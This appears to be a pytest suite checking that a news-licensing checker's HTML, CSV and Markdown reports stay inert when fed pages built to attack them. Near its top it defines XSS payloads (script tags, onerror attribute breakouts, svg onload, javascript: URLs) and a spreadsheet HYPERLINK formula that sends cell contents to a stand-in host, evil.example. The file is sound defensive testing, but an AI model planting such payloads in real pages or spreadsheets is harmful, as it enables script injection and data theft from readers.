"""Report safety end to end: hostile pages go through the real checker, then into every report.

tests/test_reports.py and tests/test_audit_reports.py check the escaping helpers on hand-built
findings. Here the page-derived text (byline text, alt text, class names in selectors, titles,
authors, URLs, error messages, partner names, waivers, WARC names) comes out of `Checker.check` on
pages written to attack the reports, and each report is judged the way its reader would open it:
the HTML reports in headless Chromium, both as written and with their Content-Security-Policy
removed (escaping alone must hold; the CSP is a second wall, not the only one), the CSV files as a
spreadsheet would read their first character, the Markdown as CommonMark with raw HTML allowed.
"""
from __future__ import annotations

import csv
import dataclasses
import html as html_lib
import io
import re
from pathlib import Path

import pytest

from checker.models import (AuditPage, AuditReport, DiffItem, Fetched, Original, Outcome, PartnerInfo, Run,
                            RunDiff, Status, TrendPoint, WarcRef)
from checker.pipeline import Checker
from checker.report import render
from checker.report.audit_data import render_audit_csv
from checker.report.audit_html import render_audit_html
from checker.report.digest import render_digest

from conftest import open_page

PWN = "window.__pwned=1"
SCRIPT = f"<script>{PWN}</script>"
HANDLER = f'" onerror={PWN} x="'  # breaks out of a double-quoted attribute
HANDLER_ALERT = '" onerror=alert(1) x="'
SQ_HANDLER = f"' onmouseover='{PWN}' x='"
IMG = f"<img src=x onerror={PWN}>"
SVG = f"<svg onload={PWN}>"
CLOSE = f"</code></dd></td></title></style></textarea>{SCRIPT}"  # tries to leave every context first
JS_URL = f"javascript:{PWN}"
MD_IMAGE = "![t](https://evil.example/track.png)"
MD_LINK = f"[click](javascript:{PWN})"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ALL = " ".join([SCRIPT, HANDLER, HANDLER_ALERT, SQ_HANDLER, IMG, SVG, CLOSE, JS_URL, MD_IMAGE, MD_LINK])
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile_original(pack) -> Original:
    base = pack.example_original
    return Original(id=f"dcnf-1 {SCRIPT}", url=f"{JS_URL}//https://dailycallernewsfoundation.org/x",
                    title=f"Grid {ALL}", authors=(base.authors[0], f"Eve {SCRIPT}{HANDLER}"),
                    published="2026-05-04", text=base.text)


def _paragraphs(original: Original) -> str:
    return "".join(f"<p>{p.strip()}</p>" for p in original.text.split("\n\n") if p.strip())


def _page(original: Original, head: str) -> bytes:
    e = html_lib.escape  # in the HTML source escaped once, so the *text* the checker reads is the payload
    return (f"<html><head><title>{e(ALL)}</title></head><body><article><h1>{e(original.title)}</h1>"
            f"{head}{_paragraphs(original)}</article></body></html>").encode()


@pytest.fixture(scope="module")
def run(pack, hostile_original) -> Run:
    e = html_lib.escape
    checker = Checker.build(pack, [hostile_original])
    class_payload = e(f'x"><svg/onload={PWN}>')  # (no "img": a photo-credit class is no byline)
    violation = _page(hostile_original,
                      f'<img src="/img/dailycaller-logo.png?{e(ALL)}" alt="Daily Caller {e(ALL)}">'
                      f'<p class="byline {class_payload}" id="{e(HANDLER)}">{e(FORMULA)} By Staff {e(ALL)}</p>')
    hidden_logo = _page(hostile_original,
                        f'<img hidden src="/img/dcnf-logo.png" alt="DCNF {e(ALL)}" title="{e(SQ_HANDLER)}">'
                        f"<p class=byline>By Jane Q. Reporter, Daily Caller News Foundation {e(SCRIPT)}</p>")
    fetched = [
        Fetched(target=f"@SUM(1+1) {SCRIPT}", url=f"https://partner.example/a?{e(ALL)}", body=violation),
        Fetched(target=JS_URL, url=JS_URL, body=hidden_logo),
        Fetched(target=f"-2+3 {IMG}", url=f" {JS_URL}", body=b"<html><body><p>Not a copy.</p></body></html>"),
        Fetched(target=f"\t=1+1 {SVG}", url=f"data:text/html,{SCRIPT}", error=f"HTTP 500: {ALL}"),
    ]
    results = tuple(checker.check(f) for f in fetched)
    assert [r.status for r in results] == [Status.VIOLATION, Status.VIOLATION, Status.NOT_A_COPY, Status.ERROR]
    return Run(license=f"dcnf {SCRIPT}", tool_version="0.1.0", results=results,
               started=f"2026-05-04 {SCRIPT}", finished=HANDLER)


@pytest.fixture(scope="module")
def audit(run) -> AuditReport:
    violation, hidden, not_a_copy, error = run.results
    waived = dataclasses.replace(hidden, findings=tuple(
        dataclasses.replace(f, waiver=f"agreed {ALL}") if f.outcome is Outcome.FAIL else f for f in hidden.findings))
    alpha = PartnerInfo("alpha", f"Alpha {ALL}", contacts=(f"e@x.example{SCRIPT}",),
                        errors=(f"sitemap {JS_URL}: {ALL}",))
    beta = PartnerInfo(f'=beta"><script>{PWN}</script>', FORMULA)
    pages = (
        AuditPage("alpha", violation, sha256="ab" * 32, warc=WarcRef(f"evidence/{SCRIPT}.warc.gz", f"<urn:{HANDLER}>")),
        AuditPage("alpha", waived, sha256=f"{SCRIPT}"),
        AuditPage(beta.id, not_a_copy),
        AuditPage(beta.id, error),
        AuditPage(beta.id, hidden),
    )
    diff = RunDiff(previous_run=1,
                   new=(DiffItem("fp1", "alpha", JS_URL, f"logo {SCRIPT}", f"new {ALL}"),),
                   fixed=(DiffItem("fp2", beta.id, f"https://beta.example/{SCRIPT}", "byline", f"fixed {ALL}"),),
                   persisting=(DiffItem("fp3", beta.id, f"data:text/html,{SCRIPT}", f'byline"{HANDLER}', ALL),))
    trend = (TrendPoint(1, f"2026-05-03 {SCRIPT}", 3, 1), TrendPoint(2, HANDLER, 4, 2))
    return AuditReport(run_id=2, license=f"dcnf {SCRIPT}", tool_version=HANDLER, started=f"{SCRIPT}",
                       finished=HANDLER, partners=(alpha, beta), pages=pages, diff=diff, trend=trend,
                       waiver_notes=(f"waiver {ALL} expired",), complete=False)


def _check_html(run: Run) -> str:
    out = io.StringIO()
    render("html", run, out)
    return out.getvalue()


def _audit_html(report: AuditReport) -> str:
    out = io.StringIO()
    render_audit_html(report, out)
    return out.getvalue()


def test_the_payloads_reach_the_findings(run) -> None:
    """The checker really carries page text into the results (else the report tests would prove nothing)."""
    violation, hidden, _, error = run.results
    logo, byline, _ = violation.findings
    assert SCRIPT in logo.message and HANDLER in logo.message  # the look-alike logo's alt text
    assert any(SCRIPT in ev.snippet for ev in logo.evidence)
    assert any(FORMULA in ev.snippet and SCRIPT in ev.snippet for ev in byline.evidence)  # the byline's text
    assert any(PWN in ev.selector for ev in byline.evidence)  # an id in the CSS selector
    assert any(SQ_HANDLER in ev.snippet or "DCNF" in ev.snippet for ev in hidden.findings[0].evidence)
    assert SCRIPT in error.error


# --- HTML: static structure ----------------------------------------------------------------------

@pytest.mark.parametrize("which", ["check", "audit"])
def test_html_report_has_no_injected_markup(run, audit, which: str) -> None:
    import lxml.html

    out = _check_html(run) if which == "check" else _audit_html(audit)
    doc = lxml.html.fromstring(out)
    assert len(doc.xpath("//script")) == 1  # ours
    assert not doc.xpath("//iframe|//object|//embed|//base|//form|//img|//meta[@http-equiv='refresh']")
    assert len(doc.xpath("//svg")) <= 1  # the audit's trend chart
    for el in doc.iter():
        if not isinstance(el.tag, str):
            continue
        assert not [a for a in el.attrib if a.lower().startswith("on")], (el.tag, dict(el.attrib))
        for attr in ("href", "src", "action", "formaction", "xlink:href"):
            value = el.get(attr)
            if value is not None:
                assert re.match(r"(#|https?://|file:)", value), (el.tag, attr, value)
    assert PWN in doc.text_content()  # the payloads are shown, as text


# --- HTML: in a real browser ---------------------------------------------------------------------

_CSP_META = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>\n?')


def _browser_verdict(path: Path, browser) -> dict:
    page, dialogs, requests = open_page(browser, path)
    page.wait_for_load_state("load")
    # Move the pointer over everything a payload could hang a handler on, and click the links.
    for locator in ("code", "td", "dd", "li", "h3", "p"):
        for el in page.locator(locator).all()[:200]:
            if el.is_visible():
                el.hover()
    for a in page.locator("a[href]").all():
        href = a.get_attribute("href") or ""
        if href.startswith("#"):
            a.click()
    page.wait_for_timeout(200)
    verdict = page.evaluate("""() => ({
        pwned: typeof window.__pwned,
        scripts: document.scripts.length,
        handlers: [...document.querySelectorAll('*')].flatMap(
            el => [...el.attributes].filter(a => a.name.toLowerCase().startsWith('on'))
                                    .map(a => el.tagName + ' ' + a.name)),
        jsLinks: [...document.querySelectorAll('[href],[src],[action]')].map(
            el => el.getAttribute('href') || el.getAttribute('src') || el.getAttribute('action'))
            .filter(v => /^\\s*(javascript|data|vbscript):/i.test(v)),
        text: document.body.innerText,
    })""")
    verdict.update(dialogs=dialogs, requests=requests)
    return verdict


@pytest.mark.browser
@pytest.mark.parametrize("csp", ["with-csp", "without-csp"])
@pytest.mark.parametrize("which", ["check", "audit"])
def test_no_script_runs_in_chromium(tmp_path: Path, run, audit, which: str, csp: str, browser) -> None:
    out = _check_html(run) if which == "check" else _audit_html(audit)
    if csp == "without-csp":
        out, n = _CSP_META.subn("", out)
        assert n == 1
    path = tmp_path / f"{which}.html"
    path.write_text(out, encoding="utf-8")
    verdict = _browser_verdict(path, browser)
    assert verdict["dialogs"] == []
    assert verdict["pwned"] == "undefined"
    assert verdict["scripts"] == 1
    assert verdict["handlers"] == []
    assert verdict["jsLinks"] == []
    assert verdict["requests"] == [path.as_uri()], verdict["requests"]  # nothing loaded, not even file: images
    assert SCRIPT in verdict["text"]  # shown literally


# --- CSV -----------------------------------------------------------------------------------------

def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_both_csv_reports_neutralise_formulas(run, audit) -> None:
    out = io.StringIO()
    render("csv", run, out)
    check_cells = _csv_cells(out.getvalue())
    out = io.StringIO()
    render_audit_csv(audit, out)
    audit_cells = _csv_cells(out.getvalue())
    for cells in (check_cells, audit_cells):
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
        assert any(c.startswith("'" + FORMULA) for c in cells)  # the byline's text, kept but inert
        assert "'@SUM(1+1) " + SCRIPT in cells and "'-2+3 " + IMG in cells and "'\t=1+1 " + SVG in cells
    assert "'" + audit.partners[1].id in audit_cells


# --- Markdown ------------------------------------------------------------------------------------

def _assert_inert_markdown(text: str) -> None:
    import lxml.html
    from markdown_it import MarkdownIt

    out = MarkdownIt("commonmark").enable("table").render(text)  # commonmark passes raw HTML through
    assert "<script" not in out.lower() and "<img" not in out.lower() and "<svg" not in out.lower()
    doc = lxml.html.fromstring(f"<div>{out}</div>")
    for el in doc.iter():
        if not isinstance(el.tag, str):
            continue
        assert not [a for a in el.attrib if a.lower().startswith("on")], (el.tag, dict(el.attrib))
        href = el.get("href")
        assert href is None or href.startswith(("https://", "http://")), href
    assert PWN in doc.text_content()


def test_markdown_check_report_is_inert(run) -> None:
    out = io.StringIO()
    render("markdown", run, out)
    _assert_inert_markdown(out.getvalue())


@pytest.mark.parametrize("partner", [0, 1])
def test_markdown_digests_are_inert(audit, partner: int) -> None:
    text = render_digest(audit, audit.partners[partner].id, "markdown")
    _assert_inert_markdown(text)
    assert "\n#" not in text.replace("\n## ", "\n").replace("\n# ", "\n")  # no heading smuggled in


@pytest.mark.parametrize("partner", [0, 1])
def test_text_digests_have_no_control_characters(audit, partner: int) -> None:
    text = render_digest(audit, audit.partners[partner].id, "text")
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", text)
